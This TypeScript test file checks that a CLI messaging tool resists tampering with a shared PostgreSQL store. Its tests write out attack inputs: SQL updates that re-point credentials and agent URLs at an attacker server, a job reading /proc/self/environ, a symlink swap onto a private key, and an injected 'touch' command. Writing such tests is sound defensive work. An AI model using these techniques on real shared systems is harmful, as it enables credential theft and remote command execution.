/**
 * Issue 32, findings 1–3: a shared store cannot command another host. Two homes on one PostgreSQL store, Alice and
 * Bob (the attacker: a teammate with missive, or a database user writing rows directly), and real SDK agents on
 * 127.0.0.1: `real` (Alice's service, which checks her token) and `evil` (Bob's server, which records everything it is
 * sent, the card requests' headers included). Each test reproduces an attack of the issue and checks that nothing of
 * Alice's reaches Bob: no secret, no file, no command run; and that Alice is told why, before anything is sent.
 */
import { existsSync, mkdirSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import pg from 'pg';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { sandbox, type Sandbox } from '../support/cli.js';
import { freshPostgresUrl, type FreshDatabase } from '../support/postgres.js';
import { startSecuredAgent, type SecuredAgent } from '../support/secured-agent.js';
import { storeRows } from '../support/store-reads.js';

const ALICE_TOKEN = 'alice-real-service-token-0001';
const ALICE_AWS = 'aws-secret-of-alice-0123456789';
const BOB_TOKEN = 'bob-own-token-for-the-service';

let db: FreshDatabase;
let real: SecuredAgent;
let evil: SecuredAgent;
let alice: Sandbox;
let bob: Sandbox;

/** Everything Bob's server was sent, as text: headers of every request (the card's too) and every message. */
const evilSaw = () => JSON.stringify([evil.allRequests, evil.messages]);

/** A statement as a database user runs it (no missive involved), on the profile's schema. */
async function asDatabaseUser(sql: string, params: unknown[] = []): Promise<void> {
  const client = new pg.Client({ connectionString: db.url, options: '-c search_path=missive_default' });
  await client.connect();
  try {
    await client.query(sql, params);
  } finally {
    await client.end();
  }
}

const failure = (res: { code: number; stderr: string }) => JSON.parse(res.stderr).data as { code: string; message: string; help?: string };

beforeEach(async () => {
  db = await freshPostgresUrl();
  real = await startSecuredAgent({ token: ALICE_TOKEN });
  evil = await startSecuredAgent();
  alice = sandbox({ MISSIVE_STORE_URL: db.url, ALICE_SVC_TOKEN: ALICE_TOKEN, AWS_SECRET_ACCESS_KEY: ALICE_AWS });
  bob = sandbox({ MISSIVE_STORE_URL: db.url, BOB_SVC_TOKEN: BOB_TOKEN });
  expect((await alice.run(['auth', 'add', 'svc-token', '--env', 'ALICE_SVC_TOKEN'])).code).toBe(0);
  expect((await alice.run(['agent', 'add', 'svc', real.baseUrl, '--auth-ref', 'svc-token'])).code).toBe(0);
  const first = await alice.run(['send', 'svc', 'hello', '--json']);
  expect(first.code, first.stderr).toBe(0);
  expect(real.requests.at(-1)?.authorization).toBe(`Bearer ${ALICE_TOKEN}`);
});

afterEach(async () => {
  alice.dispose();
  bob.dispose();
  await Promise.all([real.close(), evil.close()]);
  await db.drop();
});

describe("a shared row never decides which of a host's secrets is read (finding 1)", () => {
  it("keeps sending Alice's own secret when the shared ref is re-pointed at another env var of hers", async () => {
    // Bob re-adds the ref as AWS_SECRET_ACCESS_KEY (a database user does the same with one UPDATE).
    expect((await bob.run(['auth', 'remove', 'svc-token'])).code).toBe(0);
    expect((await bob.run(['auth', 'add', 'svc-token', '--env', 'AWS_SECRET_ACCESS_KEY'])).code).toBe(0);
    expect((await bob.run(['agent', 'set', 'svc', '--auth-ref', 'svc-token'])).code).toBe(0);
    await asDatabaseUser(`UPDATE auth_refs SET env_var = 'AWS_SECRET_ACCESS_KEY' WHERE name = 'svc-token'`);

    const res = await alice.run(['send', 'svc', 'still mine?', '--json']);
    expect(res.code, res.stderr).toBe(0);
    expect(real.requests.at(-1)?.authorization).toBe(`Bearer ${ALICE_TOKEN}`);
    expect(JSON.stringify(real.requests)).not.toContain(ALICE_AWS);
    // What Alice's host reads is shown as hers, not as the row says.
    const listed = (await alice.run(['auth', 'list', '--json'])).json().data.auth_refs[0];
    expect(listed).toMatchObject({ name: 'svc-token', env: 'ALICE_SVC_TOKEN', this_host: { bound: true, changes: [] } });
  });

  it('refuses, before anything is sent, an agent whose shared row was moved to another server', async () => {
    // A plain UPDATE by anyone holding the database role: the agent now points at Bob's server, its card forgotten.
    await asDatabaseUser(`UPDATE agents SET base_url = $1, agent_card_json = NULL, agent_card_url = NULL WHERE alias = 'svc'`, [evil.baseUrl]);
    const res = await alice.run(['send', 'svc', 'secret plans', '--json']);
    expect(res.code).toBe(77);
    const error = failure(res);
    expect(error.code).toBe('missive::auth::shared_agent_changed');
    expect(error.message).toContain(`its credentials would now go to ${new URL(evil.baseUrl).origin}`);
    expect(error.help).toContain('missive agent trust svc');
    expect(evil.allRequests).toEqual([]);
  });

  it("refuses to send Alice's secret to a new agent a teammate registered with her auth ref", async () => {
    expect((await bob.run(['agent', 'add', 'grab', evil.baseUrl, '--auth-ref', 'svc-token'])).code).toBe(0);
    const res = await alice.run(['send', 'grab', 'hi', '--json']);
    expect(res.code).toBe(77);
    expect(failure(res).code).toBe('missive::auth::agent_not_confirmed');
    expect(evilSaw()).not.toContain(ALICE_TOKEN);
    expect(evil.allRequests).toEqual([]);
    // The same for every credential of Alice's, not only auth refs: her --header is hers, the agent's origin is Bob's.
    const header = await alice.run(['send', 'grab', 'hi', '--header', `X-Key:${ALICE_AWS}`, '--json']);
    expect(header.code).toBe(77);
    expect(evilSaw()).not.toContain(ALICE_AWS);
  });

  it('refuses a shared ref whose flow a teammate changed to send the secret to his token endpoint', async () => {
    await asDatabaseUser(`UPDATE auth_refs SET flow_json = $1 WHERE name = 'svc-token'`, [
      JSON.stringify({ type: 'oauth2_client_credentials', token_url: `${evil.baseUrl}/token`, issuer: null, client_id: 'alice', scopes: [], audience: null }),
    ]);
    for (const args of [
      ['send', 'svc', 'hi'],
      ['auth', 'login', 'svc-token'],
    ]) {
      const res = await alice.run([...args, '--json']);
      expect(res.code, args.join(' ')).toBe(77);
      expect(failure(res).code).toBe('missive::auth::shared_auth_ref_changed');
      expect(failure(res).message).toContain(`token_url none → ${evil.baseUrl}/token`);
    }
    expect(evil.allRequests).toEqual([]);
  });

  it('uses a shared ref on another host only once that host binds it to a secret of its own and confirms the agent', async () => {
    const unbound = await bob.run(['send', 'svc', 'hi', '--json']);
    expect(unbound.code).toBe(77);
    expect(failure(unbound).code).toBe('missive::auth::agent_not_confirmed');
    expect((await bob.run(['agent', 'trust', 'svc'])).code).toBe(0);
    const notBound = await bob.run(['send', 'svc', 'hi', '--json']);
    expect(failure(notBound).code).toBe('missive::auth::auth_ref_not_bound');
    expect(failure(notBound).help).toContain('missive auth bind svc-token --env');
    // Bob binds it to his own variable: the row's ALICE_SVC_TOKEN is never read on his host.
    const bound = await bob.run(['auth', 'bind', 'svc-token', '--env', 'BOB_SVC_TOKEN', '--json']);
    expect(bound.code, bound.stderr).toBe(0);
    expect(bound.json().data.auth_ref).toMatchObject({ env: 'BOB_SVC_TOKEN', this_host: { bound: true } });
    // The agent refuses Bob's token (it is Alice's service): what matters is which token went.
    await bob.run(['send', 'svc', 'hi']);
    expect(real.requests.at(-1)?.authorization).toBe(`Bearer ${BOB_TOKEN}`);
    expect(JSON.stringify(real.requests.slice(1))).not.toContain(ALICE_TOKEN);
  });

  it('sends to a moved agent again once the host confirms the move (agent trust)', async () => {
    await asDatabaseUser(`UPDATE agents SET base_url = $1, agent_card_json = NULL, agent_card_url = NULL WHERE alias = 'svc'`, [evil.baseUrl]);
    const trusted = await alice.run(['agent', 'trust', 'svc', '--json']);
    expect(trusted.code, trusted.stderr).toBe(0);
    expect(trusted.json().data).toMatchObject({
      alias: 'svc',
      origins: [`${new URL(evil.baseUrl).origin}`],
      auth_ref: 'svc-token',
      previous: { origins: [new URL(real.baseUrl).origin] },
    });
    expect((await alice.run(['send', 'svc', 'now it goes'])).code).toBe(0);
    expect(evil.requests.at(-1)?.authorization).toBe(`Bearer ${ALICE_TOKEN}`);
  });
});

/** A job row as a database user writes it, queued to run at once. */
async function insertJob(jobId: string, kind: string, request: unknown, agent: string | null = null): Promise<void> {
  await asDatabaseUser(
    `INSERT INTO gateway_jobs (job_id, kind, state, agent_alias, request_json, summary_json, max_attempts, next_run_at) VALUES ($1, $2, 'queued', $3, $4, $5, 1, $6)`,
    [jobId, kind, agent, JSON.stringify(request), JSON.stringify({ kind }), new Date(0).toISOString()],
  );
}

const jobOf = async (box: Sandbox, id: string) => (await box.run(['job', 'show', id, '--json'])).json().data;

/** One pass of a gateway on `box`'s host, optionally with a config of its operator's. */
async function gatewayOnce(box: Sandbox, config?: string): Promise<void> {
  const env: NodeJS.ProcessEnv = {};
  if (config !== undefined) {
    env.MISSIVE_CONFIG = join(box.home, 'gateway.toml');
    writeFileSync(env.MISSIVE_CONFIG, config);
  }
  const res = await box.run(['gateway', 'run', '--once', '--interval', '100ms'], { env });
  expect(res.code, res.stderr).toBe(0);
}

describe("a queued job cannot make another host's gateway read its files or run commands (findings 2 and 3)", () => {
  beforeEach(async () => {
    expect((await alice.run(['agent', 'add', 'plain', evil.baseUrl])).code).toBe(0);
  });

  it('sends the file as it was when the job was queued, never what the path names on the gateway later', async () => {
    writeFileSync(join(alice.home, 'note.txt'), 'meeting at noon');
    writeFileSync(join(bob.home, 'secret.txt'), 'BOB PRIVATE KEY', { mode: 0o600 });
    const started = await alice.run(['job', 'start', 'send', 'plain', '--file', 'note.txt', '--json']);
    expect(started.code, started.stderr).toBe(0);
    // Swapped after queueing for a link to a private file of the gateway's user.
    rmSync(join(alice.home, 'note.txt'));
    symlinkSync(join(bob.home, 'secret.txt'), join(alice.home, 'note.txt'));
    await gatewayOnce(bob);
    expect((await jobOf(alice, started.json().data.job_id)).state).toBe('succeeded');
    expect(JSON.stringify(evil.messages)).toContain('meeting at noon');
    expect(JSON.stringify(evil.messages)).not.toContain('BOB PRIVATE KEY');
  });

  it('refuses a job row that names a file, a working directory or an env var for the gateway to read', async () => {
    await insertJob(
      'job-environ',
      'send',
      { kind: 'send', input: { agent: 'plain', fileBytes: ['/proc/self/environ'], cwd: '/', messageId: 'm-environ' } },
      'plain',
    );
    await insertJob(
      'job-push',
      'send',
      { kind: 'send', input: { agent: 'plain', text: 'hi', pushUrl: `${evil.baseUrl}/cb`, pushTokenEnv: 'BOB_SVC_TOKEN', cwd: '/', messageId: 'm-push' } },
      'plain',
    );
    await gatewayOnce(bob);
    for (const id of ['job-environ', 'job-push']) {
      const job = await jobOf(bob, id);
      expect(job.state, id).toBe('failed');
      expect(job.result.error.code).toBe('missive::storage::corrupt_row');
      expect(job.result.error.message).toContain(`gateway_jobs row with job_id "${id}"`);
    }
    expect(evil.messages).toEqual([]);
    expect(evilSaw()).not.toContain(BOB_TOKEN);
  });

  describe('reducer commands', () => {
    let contextId: string;
    beforeEach(async () => {
      expect((await alice.run(['group', 'create', 'g', '--member', 'plain'])).code).toBe(0);
      contextId = (await alice.run(['context', 'create', '--name', 'launch', '--json'])).json().data.context_id;
      expect((await alice.run(['bcast', 'g', 'status?', '--context', 'launch'])).code).toBe(0);
    });

    it('never runs a command line from the queue, whoever wrote the row', async () => {
      const marker = join(bob.home, 'pwned');
      await insertJob('job-rce', 'reduce', { kind: 'reduce', input: { group: 'g', contextId, command: `touch ${marker}`, cwd: bob.home } });
      await gatewayOnce(bob);
      const job = await jobOf(bob, 'job-rce');
      expect(job.state).toBe('failed');
      expect(job.result.error.code).toBe('missive::storage::corrupt_row');
      expect(existsSync(marker)).toBe(false);
      // Nor does job start store one.
      const refused = await alice.run(['job', 'start', 'reduce', 'g', '--context', 'launch', '--command', `touch ${marker}`, '--json']);
      expect(refused.code).toBe(64);
      expect(failure(refused).code).toBe('missive::validation::command_in_job');
    });

    it("runs a command the gateway's own config names, and fails a name it does not know without running anything", async () => {
      const known = (await alice.run(['job', 'start', 'reduce', 'g', '--context', 'launch', '--gateway-command', 'upper', '--json'])).json().data.job_id;
      const unknown = (await alice.run(['job', 'start', 'reduce', 'g', '--context', 'launch', '--gateway-command', 'other', '--json'])).json().data.job_id;
      await gatewayOnce(bob, '[gateway.commands]\nupper = "tr a-z A-Z"\n');
      const ran = await jobOf(bob, known);
      expect(ran.state, JSON.stringify(ran.result)).toBe('succeeded');
      expect(ran.result.reduced_text).toContain('ECHO: STATUS?');
      const refused = await jobOf(bob, unknown);
      expect(refused.state).toBe('failed');
      expect(refused.result.error.code).toBe('missive::config::unknown_gateway_command');
    });
  });

  it('uses only the auth refs its operator lists for jobs ([gateway] job_auth_refs)', async () => {
    const first = (await alice.run(['job', 'start', 'send', 'svc', 'unlisted', '--json'])).json().data.job_id;
    await gatewayOnce(alice);
    const refused = await jobOf(alice, first);
    expect(refused.state).toBe('failed');
    expect(refused.result.error.code).toBe('missive::auth::auth_ref_not_allowed');
    expect(real.requests.length).toBe(1);

    const second = (await alice.run(['job', 'start', 'send', 'svc', 'listed', '--json'])).json().data.job_id;
    await gatewayOnce(alice, '[gateway]\njob_auth_refs = ["svc-token"]\n');
    expect((await jobOf(alice, second)).state).toBe('succeeded');
    expect(real.requests.at(-1)?.authorization).toBe(`Bearer ${ALICE_TOKEN}`);
  });
});

describe('what a host decided stays on that host', () => {
  it('keeps bindings and confirmations in a private file of the state directory, none of it in the shared store', async () => {
    const text = JSON.stringify(await storeRows(alice, `SELECT * FROM auth_refs`));
    expect(text).not.toContain(ALICE_TOKEN);
    const file = join(alice.home, 'state/profiles/default/host-trust.json');
    expect(existsSync(file)).toBe(true);
    const { statSync, readFileSync } = await import('node:fs');
    expect(statSync(file).mode & 0o777).toBe(0o600);
    expect(readFileSync(file, 'utf8')).not.toContain(ALICE_TOKEN);
    mkdirSync(join(bob.home, 'x'), { recursive: true });
    expect(existsSync(join(bob.home, 'state/profiles/default/host-trust.json'))).toBe(false);
  });
});
